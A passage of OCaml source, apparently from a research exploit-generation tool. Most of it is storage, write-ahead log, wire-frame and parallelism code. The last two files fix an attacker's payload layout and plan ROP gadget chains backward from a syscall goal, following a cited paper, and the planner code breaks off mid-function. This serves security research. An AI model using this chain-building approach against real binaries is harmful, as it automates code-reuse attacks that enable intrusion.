    mkdir_p (Filename.dirname d);
    try Sys.mkdir d 0o755 with Sys_error _ -> ()
  end

(* ----- crash points ----- *)

(* Named durability points.  The hook is a no-op in production;
   Faultsim installs a raising hook to simulate process death exactly
   at a WAL append, just before a checkpoint rename, or mid-stage.
   Living here (not in the harness) keeps the layering: gp_util cannot
   see gp_harness, so the harness reaches down through this ref. *)
let crash_hook : (string -> unit) ref = ref (fun _ -> ())
let crash_point name = !crash_hook name

let errstr = function
  | Unix.Unix_error (e, fn, _) -> fn ^ ": " ^ Unix.error_message e
  | Sys_error why | Failure why -> why
  | e -> Printexc.to_string e

(* Best-effort directory fsync so the rename itself is durable; some
   filesystems don't support fsync on a directory fd — ignore. *)
let fsync_dir dir =
  match Unix.openfile dir [ Unix.O_RDONLY ] 0 with
  | exception Unix.Unix_error _ -> ()
  | fd ->
    (try Unix.fsync fd with Unix.Unix_error _ -> ());
    Unix.close fd

let save ~schema path sections =
  try
    let bytes = encode ~schema sections in
    let dir = Filename.dirname path in
    mkdir_p dir;
    if not (Sys.is_directory dir) then failwith (dir ^ ": not a directory");
    (* Atomic publish: write a sibling temp file, then rename over the
       target, so a crash mid-save leaves the old store intact and a
       concurrent reader never sees a half-written file.  The fsync
       before the rename closes the durability hole where the rename
       lands on disk with the data still in the page cache: after power
       loss the target would then name a short or empty file. *)
    let tmp = Filename.temp_file ~temp_dir:dir "store" ".tmp" in
    let oc = open_out_bin tmp in
    Fun.protect
      ~finally:(fun () -> close_out_noerr oc)
      (fun () ->
        output_string oc bytes;
        flush oc;
        Unix.fsync (Unix.descr_of_out_channel oc));
    crash_point "save-rename";
    Sys.rename tmp path;
    fsync_dir dir;
    Ok ()
  with
  | Sys_error why | Failure why -> Error why
  | Unix.Unix_error _ as e -> Error (errstr e)

(* ----- advisory locking ----- *)

(* Single-writer discipline for a cache directory.  [lockf] gives the
   cross-process guarantee; because fcntl locks never conflict within
   one process, an in-process registry of held paths supplies the
   same-process half (a second journal writer in one process must also
   demote to read-only, and tests exercise exactly that). *)

type lock = { l_fd : Unix.file_descr; l_path : string }

let held_paths : (string, unit) Hashtbl.t = Hashtbl.create 4
let held_mutex = Mutex.create ()

let try_lock ?(name = ".lock") dir =
  mkdir_p dir;
  let path = Filename.concat dir name in
  Mutex.protect held_mutex (fun () ->
      if Hashtbl.mem held_paths path then
        Error "already held by this process"
      else
        match Unix.openfile path [ Unix.O_WRONLY; Unix.O_CREAT ] 0o644 with
        | exception (Unix.Unix_error _ as e) -> Error (errstr e)
        | fd -> (
          match Unix.lockf fd Unix.F_TLOCK 0 with
          | () ->
            Hashtbl.add held_paths path ();
            Ok { l_fd = fd; l_path = path }
          | exception Unix.Unix_error ((Unix.EACCES | Unix.EAGAIN), _, _) ->
            Unix.close fd;
            Error "held by another process"
          | exception e ->
            Unix.close fd;
            Error (errstr e)))

let unlock l =
  Mutex.protect held_mutex (fun () -> Hashtbl.remove held_paths l.l_path);
  (try Unix.lockf l.l_fd Unix.F_ULOCK 0 with _ -> ());
  try Unix.close l.l_fd with _ -> ()

(* ----- write-ahead log ----- *)

module Wal = struct
  (* Append-only sibling of a store file:

       magic            "GPWL"
       format_version   i64
       schema_version   i64
       record*          len:i64  body  fnv64(body):i64
         where body =   section:str  key:str  value:str

     Each record is self-checksummed, so recovery can walk the file
     from the front and stop at the first record that is short or
     fails its checksum: everything before it is trusted (the valid
     prefix), everything from it on is a torn tail from a crash
     mid-append and is truncated on the next open.  There is no
     trailing whole-file checksum by design — the file is never
     complete while a run is alive. *)

  let magic = "GPWL"
  let suffix = ".wal"
  let path_of base = base ^ suffix

  let header ~schema =
    let b = Buffer.create 20 in
    Buffer.add_string b magic;
    Bin.int_ b format_version;
    Bin.int_ b schema;
    Buffer.contents b

  let header_len = 4 + 8 + 8

  let encode_record ~section ~key ~value =
    let body = Buffer.create (String.length key + String.length value + 32) in
    Bin.str body section;
    Bin.str body key;
    Bin.str body value;
    let body = Buffer.contents body in
    let b = Buffer.create (String.length body + 16) in
    Bin.int_ b (String.length body);
    Buffer.add_string b body;
    Bin.i64 b (fnv64 body);
    Buffer.contents b

  type replay = {
    entries : (string * string * string) list;
        (* (section, key, value), append order *)
    torn_bytes : int;   (* bytes dropped from the torn tail; 0 = clean *)
    valid_bytes : int;  (* file offset where the valid prefix ends *)
  }

  (* Decode never raises and is total over truncation: chopping the
     byte string at ANY boundary yields Ok with a prefix of the
     records (the property suite checks every boundary).  Only a
     full-length header that fails to be ours maps to Corrupt/Stale. *)
  let decode ~schema s =
    let n = String.length s in
    if n = 0 then Ok { entries = []; torn_bytes = 0; valid_bytes = 0 }
    else if n < header_len then
      if String.length s <= 4 && s = String.sub magic 0 (String.length s) then
        (* torn mid-header: nothing recoverable, but nothing wrong *)
        Ok { entries = []; torn_bytes = n; valid_bytes = 0 }
      else if n > 4 && String.sub s 0 4 = magic then
        Ok { entries = []; torn_bytes = n; valid_bytes = 0 }
      else Error (Corrupt "bad magic")
    else if String.sub s 0 4 <> magic then Error (Corrupt "bad magic")
    else begin
      let pos = ref 4 in
      (* a corrupted version field can overflow the int64->int
         conversion inside [gint]; that is Corrupt, not a crash *)
      match
        let fv = Bin.gint s pos in
        let sv = Bin.gint s pos in
        (fv, sv)
      with
      | exception Bin.Truncated -> Error (Corrupt "bad header")
      | fv, sv ->
      if fv <> format_version then
        Error
          (Stale (Printf.sprintf "format version %d, want %d" fv format_version))
      else if sv <> schema then
        Error (Stale (Printf.sprintf "schema version %d, want %d" sv schema))
      else begin
        let entries = ref [] in
        let valid = ref header_len in
        (try
           while !pos < n do
             let len = Bin.gint s pos in
             if len < 0 || len > n - !pos then raise Bin.Truncated;
             let body = String.sub s !pos len in
             pos := !pos + len;
             let sum = Bin.gi64 s pos in
             if sum <> fnv64 body then raise Bin.Truncated;
             let bpos = ref 0 in
             let section = Bin.gstr body bpos in
             let key = Bin.gstr body bpos in
             let value = Bin.gstr body bpos in
             if !bpos <> len then raise Bin.Truncated;
             entries := (section, key, value) :: !entries;
             valid := !pos
           done
         with Bin.Truncated -> ());
        Ok
          {
            entries = List.rev !entries;
            torn_bytes = n - !valid;
            valid_bytes = !valid;
          }
      end
    end

  let read ~schema path =
    match
      let ic = open_in_bin path in
      Fun.protect
        ~finally:(fun () -> close_in_noerr ic)
        (fun () -> really_input_string ic (in_channel_length ic))
    with
    | exception Sys_error _ -> Error Missing
    | exception End_of_file -> Error (Corrupt "short read")
    | s -> decode ~schema s

  type t = {
    w_fd : Unix.file_descr;
    w_oc : out_channel;
    w_mutex : Mutex.t;
    mutable w_appended : int;
    mutable w_dirty : bool;  (* bytes appended since the last fsync *)
    mutable w_closed : bool;
  }

  (* Open for appending: replay the valid prefix, physically truncate
     any torn tail (so the file on disk is clean again), and position
     the writer at the end.  A missing or empty file gets a fresh
     header.  Wrong-schema / foreign files are an error — the caller
     decides whether to discard and start over. *)
  let open_append ~schema path =
    match read ~schema path with
    | Error Missing | Ok { valid_bytes = 0; _ } -> (
      mkdir_p (Filename.dirname path);
      match Unix.openfile path [ Unix.O_WRONLY; Unix.O_CREAT ] 0o644 with
      | exception (Unix.Unix_error _ as e) -> Error (errstr e)
      | fd ->
        Unix.ftruncate fd 0;
        let oc = Unix.out_channel_of_descr fd in
        set_binary_mode_out oc true;
        output_string oc (header ~schema);
        flush oc;
        Unix.fsync fd;
        Ok
          ( { w_fd = fd; w_oc = oc; w_mutex = Mutex.create ();
              w_appended = 0; w_dirty = false; w_closed = false },
            { entries = []; torn_bytes = 0; valid_bytes = header_len } ))
    | Error e -> Error (error_reason e)
    | Ok replay -> (
      match Unix.openfile path [ Unix.O_WRONLY ] 0o644 with
      | exception (Unix.Unix_error _ as e) -> Error (errstr e)
      | fd ->
        if replay.torn_bytes > 0 then Unix.ftruncate fd replay.valid_bytes;
        ignore (Unix.lseek fd replay.valid_bytes Unix.SEEK_SET);
        let oc = Unix.out_channel_of_descr fd in
        set_binary_mode_out oc true;
        Ok
          ( { w_fd = fd; w_oc = oc; w_mutex = Mutex.create ();
              w_appended = 0; w_dirty = false; w_closed = false },
            replay ))

  let append t ~section ~key ~value =
    Mutex.protect t.w_mutex (fun () ->
        if t.w_closed then failwith "wal: append after close";
        crash_point "wal-append";
        output_string t.w_oc (encode_record ~section ~key ~value);
        t.w_appended <- t.w_appended + 1;
        t.w_dirty <- true)

  let appended t = Mutex.protect t.w_mutex (fun () -> t.w_appended)

  (* Durability point: everything appended so far survives power loss.
     Skipped when nothing was appended since the last sync, so per-cell
     checkpoints on a fully warm sweep cost no I/O. *)
  let sync t =
    Mutex.protect t.w_mutex (fun () ->
        if (not t.w_closed) && t.w_dirty then begin
          flush t.w_oc;
          Unix.fsync t.w_fd;
          t.w_dirty <- false
        end)

  (* After a successful compaction into the base store the journal is
     spent: chop it back to a bare header.  A crash between the base
     rename and this truncate only leaves already-compacted records in
     the WAL — replaying them is idempotent (first-write-wins). *)
  let reset t =
    Mutex.protect t.w_mutex (fun () ->
        if not t.w_closed then begin
          flush t.w_oc;
          Unix.ftruncate t.w_fd header_len;
          ignore (Unix.lseek t.w_fd header_len Unix.SEEK_SET);
          Unix.fsync t.w_fd;
          t.w_appended <- 0;
          t.w_dirty <- false
        end)

  let close t =
    Mutex.protect t.w_mutex (fun () ->
        if not t.w_closed then begin
          t.w_closed <- true;
          (try
             flush t.w_oc;
             Unix.fsync t.w_fd
           with _ -> ());
          try close_out_noerr t.w_oc with _ -> ()
        end)

  (* Simulated-crash teardown: drop the fd without flushing the
     channel buffer, exactly as if the process had died.  Bytes not
     yet written by the OS stay unwritten; the next open replays what
     made it to disk. *)
  let abandon t =
    Mutex.protect t.w_mutex (fun () ->
        if not t.w_closed then begin
          t.w_closed <- true;
          try Unix.close t.w_fd with _ -> ()
        end)
end
