(* Versioned, checksummed binary store for content-addressed caches.

   Layout (all integers little-endian):

     magic            "GPST"
     format_version   i64    -- layout of this file (owned here)
     schema_version   i64    -- meaning of the payload (owned by caller)
     nsections        i64
     section*         name:str  nentries:i64  (key:str value:str fnv:i64)*
     file_checksum    i64    -- FNV-1a over every byte before it

   Per-entry checksums cover key ^ value; the trailing file checksum
   covers headers and section names too, so a flipped byte anywhere in
   the file is detected.  [load] never raises: a missing file, a bad
   magic/truncation/checksum, or a version mismatch each map to their
   own constructor so callers can demote to a cold run and report why. *)

module Bin = struct
  exception Truncated

  let u8 b v = Buffer.add_uint8 b (v land 0xff)
  let i64 b v = Buffer.add_int64_le b v
  let int_ b v = i64 b (Int64.of_int v)

  let str b s =
    int_ b (String.length s);
    Buffer.add_string b s

  let bool_ b v = u8 b (if v then 1 else 0)

  let need s pos n = if !pos < 0 || !pos + n > String.length s then raise Truncated

  let gu8 s pos =
    need s pos 1;
    let v = Char.code s.[!pos] in
    incr pos; v

  let gi64 s pos =
    need s pos 8;
    let v = String.get_int64_le s !pos in
    pos := !pos + 8; v

  let gint s pos =
    let v = gi64 s pos in
    let i = Int64.to_int v in
    if Int64.of_int i <> v then raise Truncated;
    i

  let gstr s pos =
    let n = gint s pos in
    if n < 0 then raise Truncated;
    need s pos n;
    let v = String.sub s !pos n in
    pos := !pos + n; v

  let gbool s pos = gu8 s pos <> 0
end

(* FNV-1a, 64-bit. *)
let fnv64 ?(h = 0xcbf29ce484222325L) s =
  let h = ref h in
  String.iter
    (fun c ->
      h := Int64.logxor !h (Int64.of_int (Char.code c));
      h := Int64.mul !h 0x100000001b3L)
    s;
  !h

let magic = "GPST"
let format_version = 1

type section = { name : string; entries : (string * string) list }

type load_error =
  | Missing
  | Stale of string   (* readable file, wrong format/schema version *)
  | Corrupt of string (* bad magic, truncation, checksum mismatch *)

let error_reason = function
  | Missing -> "missing"
  | Stale why -> "stale: " ^ why
  | Corrupt why -> "corrupt: " ^ why

let encode ~schema sections =
  let b = Buffer.create (1 lsl 16) in
  Buffer.add_string b magic;
  Bin.int_ b format_version;
  Bin.int_ b schema;
  Bin.int_ b (List.length sections);
  List.iter
    (fun { name; entries } ->
      Bin.str b name;
      Bin.int_ b (List.length entries);
      List.iter
        (fun (k, v) ->
          Bin.str b k;
          Bin.str b v;
          Bin.i64 b (fnv64 ~h:(fnv64 k) v))
        entries)
    sections;
  Bin.i64 b (fnv64 (Buffer.contents b));
  Buffer.contents b

let decode ~schema s =
  let pos = ref 0 in
  try
    if String.length s < 4 || String.sub s 0 4 <> magic then
      Error (Corrupt "bad magic")
    else begin
      (* Verify the trailing whole-file checksum before trusting any
         length field: corruption of a length would otherwise misparse. *)
      let n = String.length s in
      if n < 12 then raise Bin.Truncated;
      let body = String.sub s 0 (n - 8) in
      let tail = ref (n - 8) in
      if Bin.gi64 s tail <> fnv64 body then Error (Corrupt "file checksum")
      else begin
        pos := 4;
        let fv = Bin.gint s pos in
        let sv = Bin.gint s pos in
        if fv <> format_version then
          Error (Stale (Printf.sprintf "format version %d, want %d" fv format_version))
        else if sv <> schema then
          Error (Stale (Printf.sprintf "schema version %d, want %d" sv schema))
        else begin
          let nsec = Bin.gint s pos in
          if nsec < 0 then raise Bin.Truncated;
          let sections =
            List.init nsec (fun _ ->
                let name = Bin.gstr s pos in
                let nent = Bin.gint s pos in
                if nent < 0 then raise Bin.Truncated;
                let entries =
                  List.init nent (fun _ ->
                      let k = Bin.gstr s pos in
                      let v = Bin.gstr s pos in
                      let sum = Bin.gi64 s pos in
                      if sum <> fnv64 ~h:(fnv64 k) v then
                        failwith "entry checksum";
                      (k, v))
                in
                { name; entries })
          in
          if !pos <> n - 8 then Error (Corrupt "trailing bytes")
          else Ok sections
        end
      end
    end
  with
  | Bin.Truncated -> Error (Corrupt "truncated")
  | Failure why -> Error (Corrupt why)

let load ~schema path =
  match
    let ic = open_in_bin path in
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () -> really_input_string ic (in_channel_length ic))
  with
  | exception Sys_error _ -> Error Missing
  | exception End_of_file -> Error (Corrupt "short read")
  | s -> decode ~schema s

let rec mkdir_p d =
  if d <> "" && d <> "." && d <> "/" && not (Sys.file_exists d) then begin
    mkdir_p (Filename.dirname d);
    try Sys.mkdir d 0o755 with Sys_error _ -> ()
  end

let save ~schema path sections =
  try
    let bytes = encode ~schema sections in
    let dir = Filename.dirname path in
    mkdir_p dir;
    if not (Sys.is_directory dir) then failwith (dir ^ ": not a directory");
    (* Atomic publish: write a sibling temp file, then rename over the
       target, so a crash mid-save leaves the old store intact and a
       concurrent reader never sees a half-written file. *)
    let tmp = Filename.temp_file ~temp_dir:dir "store" ".tmp" in
    let oc = open_out_bin tmp in
    Fun.protect
      ~finally:(fun () -> close_out_noerr oc)
      (fun () -> output_string oc bytes);
    Sys.rename tmp path;
    Ok ()
  with Sys_error why | Failure why -> Error why
