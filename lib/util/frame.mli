(** Length-prefixed, checksummed wire frames for the analysis daemon
    (DESIGN.md §15).

    Layout: ["GPFR" | version i64 | len i64 | payload | fnv64(payload)]
    — the store's FNV-1a checksum discipline applied per frame.  The
    reader is incremental ({!parse} over a growing buffer) and total:
    every malformed prefix a peer can send maps to a {!parse_error},
    never an exception.  After any error the stream has lost sync and
    the connection must be dropped. *)

exception Truncated
(** Alias of [Store.Bin.Truncated] for payload decoders. *)

val format_version : int

val header_bytes : int
val trailer_bytes : int

val max_payload : int
(** Frames promising more than this are rejected ([Bad_length]) before
    any allocation — a corrupted length field must not OOM the daemon. *)

val encode : string -> string
(** Wrap one payload into a complete frame. *)

type parse_error =
  | Bad_magic
  | Bad_version of int
  | Bad_length of int
  | Bad_checksum

val error_reason : parse_error -> string

type parse =
  | Complete of string * int
      (** payload and total bytes consumed from the buffer *)
  | Incomplete  (** valid so far; read more bytes and re-parse *)
  | Malformed of parse_error

val parse : ?off:int -> ?len:int -> string -> parse
(** Parse one frame starting at [off] (considering bytes below [len],
    default the whole string).  Pure and restartable: on {!Incomplete}
    call again once more bytes have arrived.  Never raises. *)

(** {1 Wire fault injection}

    Same layering as [Store.crash_hook]: the harness's [Faultsim]
    installs a keyed schedule here; the client send path applies it via
    {!mangle}.  Default hook injects nothing. *)

type wire_fault =
  | Torn_len   (** truncate inside the length field, then disconnect *)
  | Torn_body  (** truncate inside the payload, then disconnect *)
  | Flip_sum   (** deliver fully with a corrupted checksum *)
  | Hangup     (** deliver fully, then disconnect before the reply *)

val chaos_wire : (string -> wire_fault option) ref

val mangle : payload:string -> string -> string * bool
(** [mangle ~payload frame] consults {!chaos_wire} and returns the
    bytes to write plus whether to close the connection immediately
    after writing them. *)
