(* Length-prefixed wire frames for the analysis daemon (DESIGN.md §15).

   One frame carries one opaque payload over a byte stream (Unix-domain
   socket).  The layout reuses the store discipline ([Gp_util.Store]):
   a magic tag, a format version owned by this module, a 64-bit length,
   the payload bytes, and a 64-bit FNV-1a checksum of the payload —
   the same checksum the WAL puts on every record, so a flipped bit on
   the wire is caught exactly like a flipped bit on disk.

     "GPFR" | version i64 | len i64 | payload bytes | fnv64(payload)

   Reading is INCREMENTAL: a socket delivers bytes in arbitrary chunks,
   so {!parse} is a pure function of (buffer, offset) that either
   yields a complete frame and how many bytes it consumed, asks for
   more bytes, or reports a malformed prefix.  Every malformed shape a
   peer can send — wrong magic, stale version, absurd length, checksum
   mismatch — is a [parse_error], never an exception: the daemon maps
   them onto the [Fail] taxonomy and drops the connection without
   trusting another byte from it.

   A frame is self-delimiting but the STREAM is not self-healing: after
   any parse error the reader has lost sync and must close the
   connection (there is no resync marker by design — a request is cheap
   to resubmit, a heuristic resync could silently splice two frames). *)

exception Truncated = Store.Bin.Truncated

let magic = "GPFR"
let format_version = 1
let header_bytes = 4 + 8 + 8 (* magic, version, length *)
let trailer_bytes = 8 (* payload checksum *)

(* Upper bound on a payload: large enough for any survey binary plus
   its report, small enough that a corrupted length field cannot make
   the daemon allocate the universe before the checksum check. *)
let max_payload = 64 * 1024 * 1024

let encode payload =
  let b = Buffer.create (header_bytes + String.length payload + trailer_bytes) in
  Buffer.add_string b magic;
  Store.Bin.i64 b (Int64.of_int format_version);
  Store.Bin.i64 b (Int64.of_int (String.length payload));
  Buffer.add_string b payload;
  Store.Bin.i64 b (Store.fnv64 payload);
  Buffer.contents b

type parse_error =
  | Bad_magic
  | Bad_version of int
  | Bad_length of int
  | Bad_checksum

let error_reason = function
  | Bad_magic -> "bad magic"
  | Bad_version v -> Printf.sprintf "version %d (want %d)" v format_version
  | Bad_length n -> Printf.sprintf "length %d out of range" n
  | Bad_checksum -> "payload checksum mismatch"

type parse =
  | Complete of string * int  (* payload, total bytes consumed *)
  | Incomplete                (* valid prefix; need more bytes *)
  | Malformed of parse_error

(* Parse one frame starting at [off] in [buf] (only bytes below [len]
   are meaningful).  Pure: call again with a longer buffer after
   [Incomplete].  Never raises. *)
let parse ?(off = 0) ?len buf =
  let len = match len with Some l -> l | None -> String.length buf in
  let avail = len - off in
  if avail < header_bytes then
    (* check however much of the magic we do have, so garbage is
       rejected on the first bytes rather than after a blocking read *)
    if avail > 0 && String.sub buf off (min avail 4) <> String.sub magic 0 (min avail 4)
    then Malformed Bad_magic
    else Incomplete
  else if String.sub buf off 4 <> magic then Malformed Bad_magic
  else begin
    let cur = ref (off + 4) in
    let version = Int64.to_int (Store.Bin.gi64 buf cur) in
    let plen = Int64.to_int (Store.Bin.gi64 buf cur) in
    if version <> format_version then Malformed (Bad_version version)
    else if plen < 0 || plen > max_payload then Malformed (Bad_length plen)
    else if avail < header_bytes + plen + trailer_bytes then Incomplete
    else begin
      let payload = String.sub buf !cur plen in
      cur := !cur + plen;
      let sum = Store.Bin.gi64 buf cur in
      if sum <> Store.fnv64 payload then Malformed Bad_checksum
      else Complete (payload, header_bytes + plen + trailer_bytes)
    end
  end

(* ----- wire fault injection ----- *)

(* Keyed chaos hook, same layering trick as [Store.crash_hook]:
   gp_util cannot see the harness, so [Faultsim] installs a schedule
   here and the CLIENT send path consults it via {!mangle}.  The
   decision is keyed on the payload, so the injected fault set is a
   pure function of (seed, request) — jobs- and interleaving-proof,
   like every other Faultsim schedule. *)

type wire_fault =
  | Torn_len   (* die inside the length field: EOF mid-header *)
  | Torn_body  (* die inside the payload: EOF mid-frame *)
  | Flip_sum   (* deliver fully, checksum wrong: corruption in flight *)
  | Hangup     (* deliver fully, then vanish before reading the reply *)

let chaos_wire : (string -> wire_fault option) ref = ref (fun _ -> None)

(* Apply the installed schedule to an encoded [frame] for [payload]:
   returns the bytes to actually write and whether the sender must
   slam the connection shut immediately after. *)
let mangle ~payload frame =
  match !chaos_wire payload with
  | None -> (frame, false)
  | Some Torn_len -> (String.sub frame 0 (4 + 8 + 3), true)
  | Some Torn_body ->
    let cut = header_bytes + max 0 ((String.length frame - header_bytes) / 2) in
    (String.sub frame 0 cut, true)
  | Some Flip_sum ->
    let b = Bytes.of_string frame in
    let last = Bytes.length b - 1 in
    Bytes.set_uint8 b last (Bytes.get_uint8 b last lxor 0xff);
    (Bytes.to_string b, false)
  | Some Hangup -> (frame, true)
