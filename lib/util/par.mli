(** Chunked fan-out over OCaml 5 domains (DESIGN.md "Parallel execution
    & determinism").

    A minimal work pool with the one property the determinism layer
    needs: results come back in task order, whatever interleaving the
    scheduler produced.  Tasks must not share mutable state with each
    other; anything they accumulate (fault tallies, budget fuel) is
    returned per task and merged associatively by the caller after the
    join. *)

val available : unit -> int
(** How many domains the hardware can actually run
    ([Domain.recommended_domain_count]).  Job counts above this only add
    scheduling overhead, never throughput. *)

val run : jobs:int -> (unit -> 'a) array -> 'a array
(** Run every thunk on up to [jobs] domains (the calling domain is one
    of them), returning results in task order.  If any task raised, the
    exception of the LOWEST-indexed failed task is re-raised after all
    domains have joined — a later fault never hides an earlier one, and
    no domain is left running.  [jobs <= 1] degrades to a plain
    sequential map.

    The spawned domain count is additionally clamped to {!available}:
    oversubscription buys no throughput, only minor-GC stalls.  Task
    structure depends only on the requested [jobs], so results are
    identical across hosts with different core counts. *)

val ranges : chunk:int -> int -> (int * int) array
(** Contiguous index ranges [[lo, hi)] covering [[0, n)], each at most
    [chunk] wide.  A pure function of [(n, chunk)] — never of timing —
    so a fixed job count always sees the same chunk boundaries. *)

val chunk_size : ?min_chunk:int -> jobs:int -> int -> int
(** A chunk size that keeps every domain busy without letting the
    per-chunk merge dominate: roughly four chunks per job, with a floor
    of [min_chunk] (default 16) items. *)

val map : jobs:int -> ?chunk:int -> ('a -> 'b) -> 'a list -> 'b list
(** Order-preserving parallel map over chunks of the list.  [f] must be
    safe to call from any domain. *)
