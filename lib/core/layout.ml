(* Memory layout contract between the planner, the payload builder, and
   the validator.

   The exploit scenario fixes where the attacker's stack write lands
   (ASLR is assumed defeated/off, paper §III-A), so the payload base is a
   known constant — but WHICH constant depends on the scenario: direct
   validation uses a default near the stack top, while the netperf case
   study sets it to the probed address of break_args' saved return
   address.  That makes "memory we control" a concrete region: pointer
   pre-conditions (POINTER type, §IV-B) are discharged by pinning free
   pointer variables INTO the payload, after which values read through
   them become attacker-chosen payload cells — the paper's "left
   unconstrained so that it is free to take on whatever value is
   necessary for the rest of the plan". *)

let default_base = Int64.sub Gp_emu.Machine.stack_top 0x9000L

let payload_base_ref = ref default_base

let payload_base () = !payload_base_ref

(* Point the layout at a different smashed-return-address location (e.g.
   the one probed in the netperf scenario).  Invalidates nothing: gadget
   pools are layout-independent; only (re)planning consults the base. *)
let set_payload_base b = payload_base_ref := b

let reset () = payload_base_ref := default_base

(* bytes the payload may occupy *)
let payload_size = 0x8000

let payload_end () = Int64.add (payload_base ()) (Int64.of_int payload_size)

let in_payload a = a >= payload_base () && a < payload_end ()

let in_scratch a =
  a >= Gp_emu.Machine.scratch_base
  && a < Int64.add Gp_emu.Machine.scratch_base (Int64.of_int Gp_emu.Machine.scratch_size)

(* Pin candidates sit deep in the payload, spaced far enough apart that a
   pinned frame pointer's typical displacement range (±0x400) stays clear
   of its neighbours and of the chain cells near the base. *)
let pin_candidates () =
  List.init 14 (fun k ->
      Int64.add (payload_base ()) (Int64.of_int (0xc00 + (k * 0x800))))

let readable a = in_payload a || in_scratch a
let writable a = in_payload a || in_scratch a

(* Pool handed to the solver; [salt] rotates the pin order so independent
   instantiations spread across candidates instead of piling onto the
   first one. *)
let pool ~salt =
  let pins = pin_candidates () in
  let n = List.length pins in
  let rot = ((salt mod n) + n) mod n in
  let pins = List.filteri (fun i _ -> i >= rot) pins @ List.filteri (fun i _ -> i < rot) pins in
  { Gp_smt.Solver.pins; readable; writable }

(* Structural key for the memo in Gp_smt.Solver: [pool ~salt] is a pure
   function of the payload base (pins, readable, writable all derive from
   it) and of the pin rotation [salt mod n] — so this pair fully
   determines the pool's behaviour. *)
let pool_key ~salt =
  let n = List.length (pin_candidates ()) in
  (payload_base (), ((salt mod n) + n) mod n)
