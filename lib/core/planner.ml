(* The partial-order planner (paper §IV-D, Algorithm 1).

   Greedy best-first search, backward from the attack goal: the root
   plans each contain one GOAL step (an instantiated syscall gadget whose
   pre-conditions encode the target register state).  Each expansion pops
   the best partial plan, selects an open pre-condition, and tries to
   close it either by REUSING an existing step's effect (adding a causal
   link) or by INSTANTIATING a new gadget from the register-indexed pool.
   Threatened causal links are protected by promotion/demotion.

   Heuristics (paper's, in priority order): fewest open pre-conditions,
   then fewest accumulated constraints (we use demand+binding count),
   then fewest steps.

   The search does NOT stop at the first complete plan: it keeps going,
   emitting distinct complete plans until the node budget or the plan
   quota is exhausted (paper: "Gadget-Planner does not stop when finding
   one gadget chain"). *)

type config = {
  max_plans : int;            (* distinct complete plans to emit *)
  node_budget : int;          (* expansions before giving up *)
  time_budget : float;        (* seconds before giving up *)
  branch_cap : int;           (* candidate gadgets tried per open cond *)
  goal_cap : int;             (* syscall gadgets tried as roots *)
  max_steps : int;            (* plan size cap *)
}

let default_config =
  { max_plans = 32; node_budget = 4000; time_budget = 30.; branch_cap = 10;
    goal_cap = 6; max_steps = 14 }

(* Plan cost for the priority queue: fewest open pre-conditions, then
   fewest constraints, then fewest steps (the paper's heuristics) — plus a
   DIVERSITY pressure: gadgets that already appear in emitted chains incur
   a growing penalty, so once the easy chains are exhausted the search
   drifts to unexplored (conditional, merged, pivoting) providers, which
   is how "diverse gadget chains" keep coming (paper §IV-D). *)
let cost ~usage (p : Plan.t) =
  let constraints = ref 0 in
  let penalty = ref 0 in
  List.iter
    (fun (s : Plan.step) ->
      constraints :=
        !constraints + List.length s.Plan.demands + List.length s.Plan.bindings;
      match Hashtbl.find_opt usage s.Plan.gadget.Gadget.addr with
      | Some n -> penalty := !penalty + min n 40
      | None -> ())
    p.Plan.steps;
  (List.length p.Plan.open_conds, !constraints + !penalty, List.length p.Plan.steps)

module Pq = struct
  (* simple pairing-heap-free priority queue over a sorted map of costs *)
  module M = Map.Make (struct
    type t = int * int * int
    let compare = compare
  end)

  type t = { mutable m : Plan.t list M.t; mutable size : int }

  let create () = { m = M.empty; size = 0 }

  let push ~usage q p =
    let c = cost ~usage p in
    let cur = match M.find_opt c q.m with Some l -> l | None -> [] in
    q.m <- M.add c (p :: cur) q.m;
    q.size <- q.size + 1

  let rec pop q =
    match M.min_binding_opt q.m with
    | None -> None
    | Some (c, []) ->
      (* an empty bucket must not end the search while other cost
         buckets may remain — drop it and keep looking *)
      q.m <- M.remove c q.m;
      pop q
    | Some (c, [ p ]) ->
      q.m <- M.remove c q.m;
      q.size <- q.size - 1;
      Some (c, p)
    | Some (c, p :: rest) ->
      q.m <- M.add c rest q.m;
      q.size <- q.size - 1;
      Some (c, p)

  (* reinsert with an explicit (recomputed) key *)
  let push_key q c p =
    let cur = match M.find_opt c q.m with Some l -> l | None -> [] in
    q.m <- M.add c (p :: cur) q.m;
    q.size <- q.size + 1
end

(* Add a step's demands as open conditions. *)
let open_demands (s : Plan.step) =
  List.map (fun d -> (s.Plan.sid, d)) s.Plan.demands

(* Try to close (consumer, cond) by linking from an existing step. *)
let reuse_successors (p : Plan.t) consumer cond : Plan.t list =
  List.filter_map
    (fun (s : Plan.step) ->
      if s.Plan.sid = consumer then None
      else
        let provides =
          match cond with
          | Plan.Creg (r, v) -> List.assoc_opt r s.Plan.effects = Some v
          | Plan.Cmem (a, v) -> List.mem (a, v) s.Plan.mem_effects
        in
        if not provides then None
        else
          let p =
            { p with
              Plan.links = (s.Plan.sid, cond, consumer) :: p.Plan.links;
              open_conds =
                List.filter (fun oc -> oc <> (consumer, cond)) p.Plan.open_conds }
          in
          Option.bind (Plan.add_ordering p s.Plan.sid consumer) (fun p ->
              Plan.protect_link p s.Plan.sid cond consumer))
    p.Plan.steps

(* Instantiation is plan-independent (only the step id differs), so each
   (gadget, condition) pair is solved at most once per search. *)
type memo = (int * Plan.cond, Plan.step option) Hashtbl.t

let instantiate_memo (memo : memo) (g : Gadget.t) cond ~sid : Plan.step option =
  let key = (g.Gadget.id, cond) in
  let template =
    match Hashtbl.find_opt memo key with
    | Some t -> t
    | None ->
      let t = Plan.instantiate_for g cond ~sid:(-1) in
      Hashtbl.add memo key t;
      t
  in
  Option.map (fun (st : Plan.step) -> { st with Plan.sid = sid }) template

(* Candidate gadgets for a condition: instantiate first (this is
   Algorithm 1's PickIfSatisfy), then keep the [cap] cheapest successful
   instantiations — fewest new demands, then fewest pre-conditions and
   shortest gadget.  Dead-end gadgets (ending at a syscall) never apply. *)
let candidate_steps (memo : memo) (pool : Pool.t) (p : Plan.t) cond ~cap :
    Plan.step list =
  let gs =
    match cond with
    | Plan.Creg (r, _) -> Pool.setting pool r
    | Plan.Cmem _ -> pool.Pool.mem_writers
  in
  let insts =
    List.filter_map
      (fun g -> instantiate_memo memo g cond ~sid:p.Plan.next_sid)
      gs
  in
  let ranked =
    List.sort
      (fun (a : Plan.step) (b : Plan.step) ->
        compare
          ( List.length a.Plan.demands,
            List.length a.Plan.gadget.Gadget.pre,
